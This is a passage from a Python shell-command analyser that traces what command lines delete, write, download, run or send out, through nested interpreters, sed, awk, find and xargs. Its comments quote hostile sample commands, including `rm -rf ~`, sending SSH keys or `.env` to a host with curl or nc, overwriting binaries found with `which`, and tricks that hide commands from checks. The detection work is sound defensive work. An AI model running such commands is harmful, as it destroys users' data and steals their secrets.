            # judged as the script F is
            self.nested_shell(f"sh {_sh_quote(args[1])}", via, depth, f"{prog} {args[0]}", inherit=d)
            return
        if prog == "print" and len(args) > 1 and args[0] in ("-s", "-S"):
            args = ("-s",) + tuple(args[1:])  # zsh's `print -s CMD`: CMD becomes a history entry, as below
            prog = "history"
        if prog == "history" and len(args) > 1 and args[0] == "-s":
            # `history -s 'rm -rf ~'; fc -s`: the entry runs when fc -s (or !!) re-runs it, even in a
            # non-interactive bash — judged as the command it is
            before = len(self.issues)
            self.nested_shell(" ".join(args[1:]), via, depth, "history -s", inherit=d)
            # (`history -s "$line"` records a line: a run-time value there is not yet a run)
            self.issues[before:] = [i for i in self.issues[before:] if i.kind not in ("dynamic-command", "eval-dynamic")]
            return
        if prog in ("source", "."):
            if args:
                content = self.written_content(args[0])
                if content is None:
                    content = self.procsubs.get(args[0])
                if content is None:
                    self.unknown_procsub(d, args[0], via)
                else:
                    self.nested_shell(content, via, depth, f"source {args[0]}", inherit=d)
            return
        if prog == "find":
            self.find_exec(d, via, depth)
            d.template = generate.find_printf(args)
            found = effects.find_deletes(args, raw=d.raw)
            # one exact path (`find .. -maxdepth 1 -name other -exec rm -rf {} +`): that is `rm -rf ../other`,
            # judged as an ordinary delete (find's own rules judge what a pattern reaches)
            exact = len(found) == 1 and found[0].kind == "delete" and not any(c in found[0].path for c in "*?[")
            self.add_effects(found, "rm" if exact else "find", via)
            return
        if prog == "tee":
            append = any(a in ("-a", "--append") for a in args)
            for f in _positionals(args):
                if f not in ("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"):
                    self.writes.append(FileWrite(f, None, append=append, by="tee", via=via))
            return
        if prog in _COPIERS:
            tdir = next((args[k + 1] for k, a in enumerate(args[:-1]) if a in ("-t", "--target-directory")), None) \
                or next((a.split("=", 1)[1] for a in args if a.startswith("--target-directory=")), None)
            pos = [p for p in _positionals(args) if p != tdir]
            if prog == "cp" and any(a in ("-l", "--link") or (a.startswith("-") and not a.startswith("--")
                                                                and "l" in a[1:]) for a in args):
                # `cp -l ~/.bashrc notes.txt`: a hard link — the new name *is* the source (as `ln` is:
                # adr.shell.effects._hard_links), so writing it later changes the source
                self.add_effects([effects.Effect("edit", f) for f in (pos if tdir is not None else pos[:-1])[:16]],
                                 prog, via)
            if tdir is not None:
                srcs, dest = pos, tdir
            elif len(pos) >= 2:
                srcs, dest = pos[:-1], pos[-1]
                # `cp /dev/null .env`: the destination is emptied; `: > /tmp/e; mv /tmp/e .env`: it gets
                # what the line wrote into the source
                known = "" if srcs == ["/dev/null"] else self.written_content(srcs[0]) if len(srcs) == 1 else None
                self.writes.append(FileWrite(dest, known, by=prog, via=via))
                if prog in ("mv", "gmv") and len(self.moved) < 32:
                    for src in srcs[:8]:
                        self.moved[_plain_path(dest)] = src
                        self.moved[_plain_path(dest.rstrip("/") + "/" + src.rstrip("/").rsplit("/", 1)[-1])] = src
                if srcs == ["/dev/null"]:
                    return
            else:
                return
            # into a folder, each source lands under its own name: `cp /tmp/.bashrc ~` writes ~/.bashrc
            # (a destination spelled like a file, `notes.txt`, is taken as one)
            last = dest.rstrip("/").rsplit("/", 1)[-1]
            if tdir is None and not dest.endswith("/") and "." in last.lstrip("."):
                return
            contents = prog in ("cp", "mv", "install") and any(
                a == "--no-target-directory" or a.startswith("-") and not a.startswith("--") and "T" in a[1:]
                for a in args)  # cp -rT SRC DEST: SRC's contents become DEST's
            for src in srcs[:8]:
                base = src.rstrip("/").rsplit("/", 1)[-1]
                if base and base not in (".", "..", "{}") and not any(c in base for c in "*?[") \
                        and not (prog == "rsync" and src.endswith("/")) and not contents:
                    self.writes.append(FileWrite(dest.rstrip("/") + "/" + base, None, by=prog, via=via))
                elif base == "." or contents or prog == "rsync" and src.endswith("/"):
                    # `cp -r /tmp/x/. ~/.config/`, `rsync -a dots/ ~/`, `cp -rT x ~`: whatever the
                    # source tree holds lands anywhere under the destination
                    self.writes.append(FileWrite(dest.rstrip("/") + "/**", None, by=prog, via=via))
            return
        if prog == "dd":
            for a in args:
                if a.startswith("of="):
                    self.writes.append(FileWrite(a[3:], None, by="dd", via=via))
            return
        if prog in ("echo", "printf") and ("xargs" in d.wrappers or "parallel" in d.wrappers):
            # `… | xargs -I{} echo mv {} {}.bak | sh`: one line per input item
            if not d.args_dynamic and args[:1] != ["-v"]:
                filled = [a.replace("{}", generate.INPUT) for a in args]
                if filled == list(args):
                    filled.append(generate.INPUT)
                d.template = echo_output(filled) if prog == "echo" else printf_output(filled)
            return
        if prog in ("echo",):
            d.output = None if d.args_dynamic else echo_output(list(args))
            return
        if prog == "pwd" and all(a in ("-L", "-P") for a in args):
            d.output = "."  # the working directory, wherever a `cd` before it left the line
            return
        if prog == "dirname" and args and not d.args_dynamic and not any(
                a.startswith("-") or any(c in a for c in "$`{}*?[") for a in args):
            d.output = "".join(_parent(a) + "\n" for a in args[:16])  # `rm -rf $(dirname $(pwd))`
            return
        if prog in ("ls", "realpath", "readlink") and args and not d.args_dynamic:
            # path printers whose output is their operands: `cat $(ls ~/.ssh/id_*)`, `realpath x |
            # xargs cat` (ls only for wildcards or -d: a folder alone prints its entries' bare names).
            # Only paths that leave the working directory (/…, ~…): `rm -rf $(ls -d */ | head -3)` stays
            # a delete of computed targets, not of every folder here
            opts = [a for a in args if a.startswith("-") and a != "-"]
            ops = [a for a in args if not (a.startswith("-") and a != "-")]
            if ops and all(a.startswith(("/", "~")) for a in ops) and (prog == "realpath" or prog == "readlink" and any(
                    a in ("-f", "-e", "-m", "--canonicalize", "--canonicalize-existing", "--canonicalize-missing")
                    for a in opts) or prog == "ls" and (all(any(c in a for c in "*?[") for a in ops) or any(
                    a == "--directory" or not a.startswith("--") and "d" in a[1:] for a in opts))):
                d.output = "".join(a + "\n" for a in ops[:16])
                return
        if prog == "printf":
            if args and args[0] == "-v":
                # printf -v NAME FMT …: NAME holds what it would print (`printf -v p '%s/.ssh/x' ~`)
                printed = printf_output(list(args[2:])) if len(args) >= 3 and _NAME.fullmatch(args[1]) \
                    and not d.args_dynamic else None
                if printed is not None:
                    self.env[args[1]] = printed
                    self.var_alias.pop(args[1], None)
                    self.hooked_set(args[1], d)  # `printf -v LD_PRELOAD /tmp/x.so`
                elif len(args) >= 2:
                    self.env.pop(args[1], None)
                return
            if d.args_dynamic:
                return
            d.output = printf_output(list(args))
            return
        if prog == "read" and d.stdin_text is not None:
            self.read_into(d)
            return
        if prog == "set" and not d.args_dynamic and any(
                a.startswith("-") and not a.startswith("--") and "a" in a[1:] for a in args[:args.index("--") if "--" in args else None]) \
                or prog == "set" and "allexport" in args and "-o" in args:
            self.allexport = True  # `set -a`: every later assignment is exported (reaches later commands)
        if prog == "set" and "--" in args and not d.args_dynamic:
            # `set -- -rf ~; rm "$@"`: the positional parameters for the rest of the line
            params = list(args[args.index("--") + 1:])[:64]
            for k in [k for k in self.env if k.isdigit() and k != "0" or k in ("@", "*", "#")]:
                del self.env[k]
            for n, v in enumerate(params[:9], start=1):
                self.env[str(n)] = v
            self.env["@"] = self.env["*"] = " ".join(params)
            self.env[_ARGV_KEY] = "\0".join(params)
            self.env["#"] = str(len(params))
            return
        if prog == "yes" and not d.args_dynamic:
            d.output = (" ".join(args) or "y") + "\n"  # (the same line, over and over)
            return
        if prog == "cat" and args and all(a in self.procsubs for a in args):
            d.output = "".join(self.procsubs[a] + "\n" for a in args)  # `cat <(echo …)`
            return
        if prog == "cat" and any(a in self.procsubs for a in args):
            # `cat notes.txt <(echo 'rm -rf ~')`, `cat <(date) <(echo …)`: that text is among what it prints
            d.output_seen = "".join(self.procsubs[a] + "\n" for a in args if a in self.procsubs)
        if prog == "cat" and args and not d.args_dynamic and all(a == "/dev/null" for a in args):
            d.output = ""  # `cat /dev/null > .env`: the file is emptied
            return
        if prog in ("true", "false", ":") and not args:
            d.output = ""  # `true > .env`: so is this
            return
        if prog == "cargo" and args[:1] == ["vendor"] and not d.args_dynamic:
            # `cargo vendor > .cargo/config.toml` (cargo's documented use): what it prints is only
            # the source-replacement stanza pointing crates.io at the vendored folder
            d.output = _CARGO_VENDOR_STANZA
            return
        if prog in ("sed", "gsed") and not d.args_dynamic:
            self.sed_commands(d, via, depth)
            return
        if prog in ("xxd", "b64decode") or prog.startswith("base") or prog in ("rev", "cat", "tr"):
            return  # output depends on stdin: computed in feed()
        code = interpreters.inline_code(prog, tuple(args))
        if code is None and (prog in ("ipython", "ipython3") or any(w.endswith(" -m") for w in d.wrappers)):
            code = interpreters.module_code(prog, tuple(args))  # `python -m timeit -s CODE`, `ipython -c`
        if code is not None and code[0] == "powershell" and interpreters.powershell_encoded(args) is not None:
            # `pwsh -enc B64`: the decoded command is judged as the `pwsh -c` line it is (the rules read argv)
            self.nested_shell(f"{prog} -c {shlex.quote(code[1])}", via, depth, f"{prog} -EncodedCommand", inherit=d)
        if code is not None:
            lang, text = code
            if lang == "awk" and not d.args_dynamic:
                # `awk -v c='rm -rf ~' 'BEGIN{system(c)}'`, `C=… awk '…ENVIRON["C"]…'`: the values in place
                env = {k: self.env[k] for k in self.exported if k in self.env} if self.exported else {}
                env.update(self.prefix_env)
                text = interpreters.with_awk_values(text, args, env)
            rest = _after_code(args, text)
            if rest:
                # `python3 -c 'shutil.rmtree(sys.argv[1])' ~`: the code reads its arguments as literals
                # (one the shell layer does not know is left a read: with_argv_values)
                text = interpreters.with_argv_values(lang, text, rest)
            text = interpreters.loads_spelled(lang, args) + text
            folded = self.script(lang, text, _join_via(via, f"{prog} {'-e' if lang != 'python' else '-c'}"), depth, d)
            if rest and _ARGV_REF.search(folded) and interpreters.can_run_commands(folded, lang):
                # `python3 -c 'os.system(sys.argv[1])' 'rm -rf ~'`, `node -e '…execSync(process.argv[1])' …`:
                # the code runs what it is given — each argument, or all of them as one argv
                for a in rest[:32]:
                    self.nested_shell(a, via, depth, f"{prog} argument run", inherit=d)
                if len(rest) > 32:  # (past them, padding could hide the one that runs)
                    self.issue("too-large", f"more arguments than adr judges as commands: {d.raw[:80]}", via)
                if len(rest) > 1:
                    self.nested_shell(" ".join(_sh_quote(a) for a in rest[:32]), via, depth, f"{prog} arguments run",
                                      inherit=d)
            if not d.args_dynamic:
                self.printed(d, lang, text, None, folded)
            return
        lang = interpreters.language_of(prog)
        if lang is not None:
            file_arg = interpreters.run_file(prog, args) if lang in ("go", "zig") else _first_positional(args)
            if file_arg is not None:
                content = self.written_content(file_arg)
                if content is not None:
                    rest = list(args[args.index(file_arg) + 1:]) if file_arg in args else []
                    if rest and not d.args_dynamic and _ARGV_REF.search(content):
                        # `python3 /tmp/r.py 'rm -rf ~'` where r.py (written on this line) runs sys.argv[1];
                        # (node's process.argv has the script's path before its arguments)
                        content = interpreters.with_argv_values(lang, content,
                                                               ([file_arg] if lang in ("node", "lua") else []) + rest)
                        if interpreters.can_run_commands(content, lang):
                            for a in rest[:4]:
                                self.nested_shell(a, via, depth, f"{prog} argument run", inherit=d)
                    self.script(lang, content, _join_via(via, f"{prog} {file_arg}"), depth, d)

    @staticmethod
    def remote_commands(made: "list[_Draft]") -> None:
        """Commands another host runs over ssh carry `ssh` among their wrappers (rules: `wrappers: [ssh]`)."""
        for m in made:
            if "ssh" not in m.wrappers:
                m.wrappers = ("ssh",) + m.wrappers

    def git_alias_call(self, d: _Draft, via: str, depth: int, env: "dict[str, str] | None" = None) -> None:
        """An alias called with arguments is judged as the command line it runs (`-c alias.t=tag t -f`,
        the alias given by environment — `env` on the command, else what the line exported —, or
        defined by `git config alias.t tag` earlier on the line)."""
        args = d.argv[1:]
        named = _git_alias_named(args)
        if named and len(self.git_aliases) < 32:
            self.git_aliases[named[0]] = named[1]
            return
        if env is None:
            env = self.env if self.env.get("GIT_CONFIG_COUNT") or self.env.get("GIT_CONFIG_PARAMETERS") else {}
        pre = _git_env_config(env) if env else []
        call = _git_alias_call(pre + list(args), self.git_aliases)
        if call:
            self.nested_shell(call, via, depth, "git alias", inherit=d)

    def git_remote(self, d: _Draft) -> None:
        """`git remote add NAME URL && git push NAME`: the push goes to URL — judge it as `git push URL`."""
        i, args = _git_subcommand(d.argv)
        if i is None:
            return
        sub, rest = args[i], args[i + 1:]
        if sub == "clone":
            # `git clone URL ~/.ssh`: every file of the repository lands in that folder
            pos = positionals(rest, {"-b", "--branch", "-o", "--origin", "-c", "--config", "--depth", "--reference",
                                     "--separate-git-dir", "-u", "--upload-pack", "-j", "--jobs", "--filter",
                                     "--template", "--shallow-since", "--shallow-exclude", "--server-option"})
            if len(pos) >= 2 and len(self.writes) < 256:
                self.writes.append(FileWrite(pos[1].rstrip("/") + "/**", None, by="git", via=d.via))
            return
        root = _git_worktree(d.argv[:i], d.env, self.cd_root) if sub in _GIT_WORKTREE_WRITERS else ""
        if root.startswith(("/", "~")) and len(self.writes) < 256:
            # `git -C ~/.ssh pull URL`, `cd ~ && git checkout -f o/main`: the files of another tree land in
            # that folder, as with clone (a tree named relative to the cwd is the project's own work)
            self.writes.append(FileWrite(root.rstrip("/") + "/**", None, by="git", via=d.via))
        named = _git_remote_set(sub, rest)
        if named and len(self.git_remotes) < 16:
            self.git_remotes[named[0]] = named[1]
        # `git -c remote.origin.url=URL push`: for this command only
        once = {m.group(1): m.group(2) for a in d.argv[1:i + 1]
                if (m := re.fullmatch(r"(?i)remote\.(.+)\.(?:push)?url=(.+)", a))}
        remotes = {**self.git_remotes, **once}
        if sub == "push" and remotes:
            skip = False
            for k in range(i + 1, len(d.argv)):
                a = d.argv[k]
                if skip:
                    skip = False
                    continue
                if a.startswith("-"):
                    skip = a in ("-o", "--push-option", "--receive-pack", "--exec")
                    continue
                if a in remotes:
                    d.argv[k] = remotes[a]
                break
            else:
                # `git remote set-url origin URL && git push`: no remote named, the default one (origin)
                if "origin" in remotes:
                    d.argv.append(remotes["origin"])

    def mark_runs_downloaded(self, d: _Draft) -> None:
        """`curl -o x.sh URL; sh x.sh`, `wget URL && ./tool`: this command runs a downloaded file."""
        if not self.downloaded:
            return
        prog, args = d.argv[0], d.argv[1:]
        runs: str | None = None
        if d.program_path:
            runs = d.program_path
        elif prog == "java":
            runs = _java_runs(list(args))
        elif prog in SHELLS or interpreters.language_of(prog) or prog in ("source", ".", "exec"):
            runs = _first_positional(list(args))
            if runs == "CMD" and prog == "R" and len(args) > 2 and args[args.index("CMD") + 1] == "BATCH":
                runs = _first_positional(list(args[args.index("CMD") + 2:]))  # `R CMD BATCH x.R`
        if not runs and d.wrappers and d.wrappers[-1].endswith(" -m"):
            runs = prog.replace(".", "/") + ".py"  # `python3 -m x` (its draft is `x`): x.py where it runs
        if not runs and prog in _PROGRAM_FILE_OPTIONS:
            runs = _program_file(prog, list(args))
        if not runs and prog in _DEFAULT_PROGRAM_FILES and (prog not in _PACKAGE_MANAGERS or args[:1] and args[0] in _RUNS_SCRIPTS):
            # `curl -o Makefile URL && make`, `… -o package.json … && npm install`: the file it reads by default
            runs = next((f for f in _DEFAULT_PROGRAM_FILES[prog] if _plain_path(f) in self.downloaded), "")
        if runs and _plain_path(runs) in self.downloaded:
            d.runs_downloaded = runs
            d.upstream.append(self.downloaded[_plain_path(runs)])

    def unknown_procsub(self, d: _Draft, arg: str, via: str) -> None:
        """`bash <(gen)`, `source <(gen)`, `sh < <(gen)`: a shell runs what `gen` prints; unless a
        reader's file or a download (judged elsewhere), that text is known only at run time."""
        if not arg.startswith("<(") or arg in self.procsubs:
            return
        if any(u in DOWNLOADERS or u in FILE_READERS for u in d.upstream):
            return
        self.issue("piped-dynamic", f"a shell runs what a process substitution prints: {d.raw[:80]}", via)

    def sed_commands(self, d: _Draft, via: str, depth: int) -> None:
        """sed's own commands (`e CMD`, `s///e` run commands; `w FILE` writes) and the text it
        prints when its input is not known (a template: see adr.shell.generate)."""
        sa = sedlib.parse_args(d.argv[1:])
        if sa.script_file or not sa.scripts:
            return
        script = sedlib.parse_script("\n".join(sa.scripts))
        if not script.complete or len(script.runs) > 8 or len(script.writes) > 8:
            # the commands past the bound could run or write anything: padding must not hide one
            self.issue("too-large", f"sed script longer than adr reads: {d.raw[:80]}", via)
        for cmd in script.runs[:8]:
            self.nested_shell(cmd, via, depth, "sed e", inherit=d)
        for target in script.writes[:8]:
            if target not in ("/dev/stdout", "/dev/stderr"):
                self.writes.append(FileWrite(target, None, by="sed", via=via))
        if sa.inplace:
            return
        _out, template = generate.sed_text(d.argv[1:], None)
        if template is not None and sa.files:
            template = generate.fill_input(template, "cat " + " ".join(sa.files))
        d.template = template
        if script.executes_pattern:
            # `s/.*/CMD/e`: the line, once substituted, is run as a command
            text = generate.fill_input(template, "cat") if template is not None else None
            if text is not None:
                self.nested_shell(text, via, depth, "sed s///e", inherit=d)
            else:
                self.issue("piped-dynamic", f"sed runs lines it computes: {d.raw[:80]}", via)

    def printed(self, d: _Draft, lang: str, code: str, data: str | None, folded: str = "") -> None:
        """The text a one-liner prints (awk and perl -p/-n over their input, literal prints)."""
        args = d.argv[1:]
        out: str | None = None
        template: str | None = None
        files: list[str] = []
        if code in args:
            files = [a for a in args[args.index(code) + 1:] if not a.startswith("-") and "=" not in a]
        if files and data is not None:
            return  # it reads its files, not stdin
        if lang == "awk":
            fs = next((args[i + 1] for i, a in enumerate(args[:-1]) if a == "-F"), None) \
                or next((a[2:] for a in args if a.startswith("-F") and len(a) > 2), None)
            fs = fs if fs not in (" ", None) else None
            out, template = generate.awk_text(code, fs, data)
            runs, runs_template = generate.awk_commands(code, fs, data)
            if runs is None and runs_template is not None and generate.INPUT not in runs_template:
                runs = runs_template  # `awk 'BEGIN{print "rm -rf ~" | "sh"}'`: no input in what it runs
            if runs is not None:
                self.nested_shell(runs, d.via, d.depth, f"{d.argv[0]} system()", inherit=d)
            elif runs_template is not None and files:
                self.nested_shell(generate.fill_input(runs_template, "cat " + " ".join(files)), d.via, d.depth,
                                  f"{d.argv[0]} system()", inherit=d)
            elif runs_template is not None:
                d.runs_template = runs_template  # its input comes from the stage before (wire)
            if files:
                # `awk '{print | "nc h 80"}' ~/.ssh/id_rsa`: what it prints of its files is that command's input
                for fed in generate.awk_fed_commands(code):
                    self.nested_shell("cat " + " ".join(_word(f) for f in files[:16]) + " | " + fed, d.via,
                                      d.depth, f"{d.argv[0]} print |", inherit=d)
        elif lang == "perl" and any(a.startswith("-") and not a.startswith("--") and ("p" in a or "n" in a)
                                    for a in args):
            out, template = generate.perl_text(args, code, data)
        elif data is None:
            out = generate.printed_literals(lang, folded or code)  # ('r'+'m …' folded to one literal)
        if lang in ("perl", "ruby") and _RUNS_INPUT_LINE.search(code) and \
                any(a.startswith("-") and not a.startswith("--") and ("p" in a or "n" in a) for a in args):
            # `perl -ne 'system($_)' cmds.txt`, `ruby -ne 'system $_'`: each input line runs as a command
            if data is not None:
                self.nested_shell(data[:MAX_DECODED], d.via, d.depth, f"{d.argv[0]} runs its input lines", inherit=d)
            elif files:
                self.nested_shell(generate.fill_input(generate.INPUT, "cat " + " ".join(files)), d.via, d.depth,
                                  f"{d.argv[0]} runs its input lines", inherit=d)
            else:
                d.runs_template = generate.INPUT  # its input comes from the stage before (wire)
        if out is not None:
            d.output = out
        elif template is not None:
            d.template = generate.fill_input(template, "cat " + " ".join(files)) if files else template

    def script(self, lang: str, code: str, via: str, depth: int, d: _Draft) -> str:
        """Judge `code` of `lang` (its folded text, what it spawns, its file effects); returns the
        folded text."""
        env = {k: self.env[k] for k in self.exported if k in self.env} if self.exported else {}
        env.update(self.prefix_env)
        if env:
            # `H=$HOME python3 -c '…os.environ["H"]…'` (or `export H=…;` before): the code reads what the
            # line put in its environment
            code = interpreters.with_env_values(lang, code, env)
        qualified = interpreters.qualify_names(lang, code)
        script_via = via
        if qualified != code:
            # `from os.path import join as j`, `const {execSync: x} = require('child_process')`: the
            # calls read with the module's own names (the code as written is judged too)
            if len(self.scripts) < 64:
                self.scripts.append(Script(lang, code[:MAX_DECODED], via))
            code, script_via = qualified, _join_via(via, "names qualified")
        if len(self.scripts) < 64:
            self.scripts.append(Script(lang, code[:MAX_DECODED], script_via))
            if d.argv and len(d.scripts_at) < 4:
                d.scripts_at.append(len(self.scripts) - 1)  # (its stdin is known once the line is wired)
        # code that builds its strings from pieces ('cu'+'rl', chr(…), [::-1] …) is judged as the
        # strings it builds: the folded text is a script of its own, and what it spawns runs
        folded = fold(lang, code[:MAX_DECODED])
        if folded != code[:MAX_DECODED] and len(self.scripts) < 64:
            self.scripts.append(Script(lang, folded, _join_via(via, "constants folded")))
        # `p = subprocess.check_output(['which','git']).decode().strip(); shutil.copy(x, p)`: a PATH
        # lookup run as a command, followed through names, reads as `shutil.copy(x, shutil.which('git'))`
        # for the in-code lookup rules (a text of its own: nothing else is judged from it)
        followed = interpreters.follow_lookups(lang, folded)
        if followed != folded and len(self.scripts) < 64:
            self.scripts.append(Script(lang, followed, _join_via(via, "lookups followed")))
        # `exec(x or b64decode(P))`, `eval(c ? atob(P) : '')`: each operand a run call may be handed, as
        # a call of its own (a text of its own for the rules on what run calls are handed)
        unwrapped = interpreters.unwrap_run_args(lang, code[:MAX_DECODED])
        if unwrapped != code[:MAX_DECODED] and len(self.scripts) < 64:
            self.scripts.append(Script(lang, unwrapped, _join_via(via, "run arguments unwrapped")))
        # (folding only replaces constant expressions by the literals they make: whatever the code
        # spawns, the folded text spawns too)
        spawned = interpreters.spawned_commands(lang, folded)
        for cmd in spawned[:32]:
            self.nested_shell(cmd, via, depth, "spawned", inherit=d)
        self.add_effects(effects.code_effects(lang, code, folded), d.argv[0] if d.argv else lang, via)
        if d.argv and effects.reads_environ(code):
            d.reads_environ = True
        for path in effects.code_reads(lang, code, folded):
            # `python3 -c "print(open('.env').read())" | curl -d @- …`: the program reads the file as
            # `cat < .env` would (what it prints may be it)
            if len(d.redirects) < 64 and not any(r.op == "<" and r.target == path for r in d.redirects):
                d.redirects.append(Redirect("<", path))
        if ("chdir" in code or "cwd" in code or "setwd" in code) and len(self.layers) < 64:
            # `os.chdir(os.path.expanduser("~")); shutil.rmtree(".ssh")`, `subprocess.run(…, cwd="/")`:
            # the code's relative paths are also that folder's (a `cd` on the line, as the targets read it)
            for where in effects.code_chdirs(lang, code, folded)[:4]:
                self.nested_shell("cd " + _word(where), via, depth, "code changes directory", inherit=d)
        if depth < MAX_LAYERS:
            # exec("…") / eval '…' / new Function("…"): more code of the same language
            for inner in interpreters.evaluated_code(lang, folded)[:4]:
                self.script(lang, inner, _join_via(via, "eval"), depth + 1, d)
        return folded

    def find_ok_answered(self, d: _Draft) -> None:
        """find -ok/-okdir asks before each command — on find's standard input. Fed (`yes | find ~ -ok
        rm -rf {} \\;`, `<<< y`, `< answers`), the answers are given: it deletes as -exec/-execdir would."""
        if "-ok" not in d.argv and "-okdir" not in d.argv:
            return
        if not (d.upstream or d.stdin_text or any(r.op == "<" and r.fd in ("", "0") and r.target != "/dev/null"
                                                  for r in d.redirects)):
            return
        via = d.via
        args = ["-exec" if a == "-ok" else "-execdir" if a == "-okdir" else a for a in d.argv[1:]]
        self.add_effects(effects.find_deletes(args, raw=d.raw), "find", _join_via(via, "find -ok answered on its stdin"))

    def add_effects(self, found: "list[effects.Effect]", by: str, via: str) -> None:
        """Record files a tool or code writes, edits or deletes (bounded, without repeats)."""
        for e in found:
            if e.kind == "delete":
                fd = FileDelete(e.path, by, via, e.recursive, e.spares, e.scope, e.to)
                if len(self.deletes) < 64 and fd not in self.deletes:
                    self.deletes.append(fd)
            else:
                fw = FileWrite(e.path, e.content, e.append, by, via, e.kind)
                if len(self.writes) < 256 and fw not in self.writes:
                    self.writes.append(fw)

    def find_exec(self, d: _Draft, via: str, depth: int) -> None:
        args = d.argv[1:]
        i = 0
        while i < len(args):
            if args[i] in ("-exec", "-execdir", "-ok", "-okdir"):
                j = i + 1
                sub = []
                while j < len(args) and args[j] not in (";", "+", "\\;"):
                    sub.append(args[j])
                    j += 1
                if sub:
                    for argv in _find_exec_argvs(sub, args):
                        self.finish(argv, " ".join(argv), _join_via(via, "find -exec"), depth + 1, False,
                                    upstream=("find",))
                        # what find finds goes to that program, as through `| xargs` (downstream):
                        # `find ~ -name id_rsa -exec curl -T {} URL \;` sends what the search found
                        if argv and argv[0] not in d.downstream:
                            d.downstream.append(argv[0])
                i = j
            i += 1

    def computed_operands(self, d: _Draft, source: str, via: str) -> None:
        """A deleter under xargs/parallel whose operands come from `source` (a program's output, a
        list file) that nothing here can read: judged as `rm … $(source)` — a delete of whatever
        that prints, the same as if the line had spelled the substitution out."""
        if not d.argv or not ("xargs" in d.wrappers or "parallel" in d.wrappers) or source == "</dev/null":
            return
        if d.argv[0] in SHELLS and _script_reads_params(_shell_c_arg(d.argv[1:]) or "") \
                and not any("{}" in a for a in d.argv[1:]):
            # `xargs sh -c 'rm -rf "$@"' _ < list`: the words xargs appends are the script's $1 … "$@"
            self.xargs_on(d, ["$(" + source.replace(")", "") + ")"], _join_via(via, "xargs"))
            return
        if d.argv[0] in effects.DELETERS and not any(not a.startswith("-") and a != "{}" for a in d.argv[1:]):
            self.xargs_on(d, ["$(" + source.replace(")", "") + ")"], _join_via(via, "xargs"))
            lister = self.listed.get(_plain_path(source[1:])) if source.startswith("<") else None
            if lister is not None:
                # `git ls-files > /tmp/l; xargs rm < /tmp/l`: the list a lister wrote earlier on the line
                self.listed_deleted(lister, d, _join_via(via, f"list from {lister[0]}"), d.depth)

    def mark_namers(self, namers: "list[tuple[list[str], list[_Draft]]]", writes: "list[FileWrite]",
                    deletes: "Sequence[FileDelete]" = (), disabled: "Sequence[str]" = ()) -> None:
        """`cp evil "$(command -v git)"`, `install x $(which pip)`, `p=$(type -P node); tee "$p"`: the
        commands computing a word that names a file the program writes (or its folder) name a written
        file — as for a redirect's target (file_redirect), ">" is downstream of them. A word naming a
        file the program deletes, moves away or makes unrunnable (`rm $(which x)`, `mv "$p" /tmp/`,
        `chmod -x $(which node)`) gets REMOVED downstream. Both reach the commands they print on
        (`_Draft.passes`), so a lookup laundered through a filter, a variable or a file is still named."""
        def hit(paths: "Sequence[str]", words: "list[str]") -> bool:
            return any(w and (p == w or p.startswith(w + "/")) for p in paths[:64] for w in words)
        wpaths = [fw.path for fw in writes[:64]]
        gone = [fd.path for fd in deletes[:64]] + [_one_word(a).rstrip("/") for a in disabled[:64]]
        for vals, made in namers:
            if any(d.argv[:1] == ["basename"] for d in made):
                continue  # `cp x /tmp/$(basename $(which node))`: the name alone, placed elsewhere
            words = [_one_word(v).rstrip("/") for v in vals if v]
            words += [w.partition("=")[2] for w in words if "=" in w]  # `of=$(which gcc)`, `--output=…`
            # the computed part must lead the path (`$(which x)`, `"$p"/…`): `/tmp/$(…)` is elsewhere
            words = [w for w in words if w.startswith(("$", "`"))]
            if hit(wpaths, words):
                self.mark(made, ">")
            if hit(gone, words):
                self.mark(made, REMOVED)

    def mark(self, drafts: "Sequence[_Draft]", marker: str) -> None:
        """Put `marker` downstream of these commands and of every command whose output they print on."""
        for d in _through_passes(drafts):
            if marker not in d.downstream:
                d.downstream.append(marker)

    def lookup_operands(self, d: _Draft, sources: "list[_Draft]", via: str) -> None:
        """`which git | xargs cp evil`, `command -v node | xargs -I{} ln -sf x {}`, `xargs rm < /tmp/p`
        after `which x > /tmp/p`: the words xargs hands on are a PATH lookup's answer — judged as the
        command with that lookup spelled out as its operand (`cp evil $(which git)`), so whatever that
        command changes there marks the lookup as `cp evil "$(which git)"` would."""
        if not _from_lookup(sources) or not d.argv:
            return
        ph = "$(" + " ".join(sources[0].argv)[:80].replace(")", "") + ")"
        writes_before, deletes_before, drafts_before = len(self.writes), len(self.deletes), len(self.drafts)
        self.xargs_on(d, [ph], _join_via(via, "xargs"))
        made = [m for m in self.drafts[drafts_before:] if m.argv]
        self.mark_namers([([ph], sources)], self.writes[writes_before:], self.deletes[deletes_before:],
                         [a for m in made for a in _disabled_operands(m.argv)])

    def read_from(self, d: _Draft, sources: "list[_Draft]") -> None:
        """`read p < <(which git)`, `mapfile -t a < /tmp/p`, `read p <<< "$(command -v node)"`: the
        variables hold what those commands print (as `p=$(which git)` would)."""
        if not d.argv or not sources:
            return
        d.passes.extend(s for s in sources if s is not d)
        if d.argv[0] == "read":
            names = [a for a in d.argv[1:] if _NAME.fullmatch(a)] or ["REPLY"]
        elif d.argv[0] in ("mapfile", "readarray"):
            names = [a for a in d.argv[1:] if _NAME.fullmatch(a)][-1:] or ["MAPFILE"]
        else:
            return
        for n in names[:8]:
            self.var_drafts[n] = [s for s in sources if s is not d][:16]

    def names_listed(self, d: _Draft, sources: "list[_Draft]", via: str) -> None:
        """An archiver or copier reading its file names from what `sources` print (a list file the line
        wrote, `<(…)`, its stdin): judged once more with those names as operands, as `tar czf - $(ls …)`."""
        if not sources or not d.argv:
            return
        d.passes.extend(s for s in sources if s is not d and s not in d.passes)
        paths: list[str] = []
        for s in sources[:8]:
            # (find's starting points, as `tar czf - DIR` archives DIR — not every name under them)
            got = _find_roots(s.argv[1:]) if s.argv[:1] == ["find"] else _printed_paths(s)
            paths += [p for p in (got or []) if p not in paths]
        self.xargs_on(d, paths[:8], _join_via(via, f"names listed for {d.argv[0]}"))

    def xargs_on(self, d: _Draft, paths: "list[str]", via: str) -> None:
        """The command xargs/parallel runs, judged once more with `paths` as its operands ({} replaced)."""
        if not paths:
            return
        made: list[_Draft] = []
        if any("{}" in a for a in d.argv):  # (the program too: `echo rm | xargs -I{} {} -rf ~`)
            for p in paths:
                argv = [a.replace("{}", p) for a in d.argv]
                made += self.finish(argv, " ".join(argv), via, d.depth + 1, False, upstream=("xargs",))
        else:
            argv = d.argv + paths
            made += self.finish(argv, " ".join(argv), via, d.depth + 1, False, upstream=("xargs",))
        for m in made:  # its output goes where xargs' goes (`… | xargs cat | curl -d @- URL`)
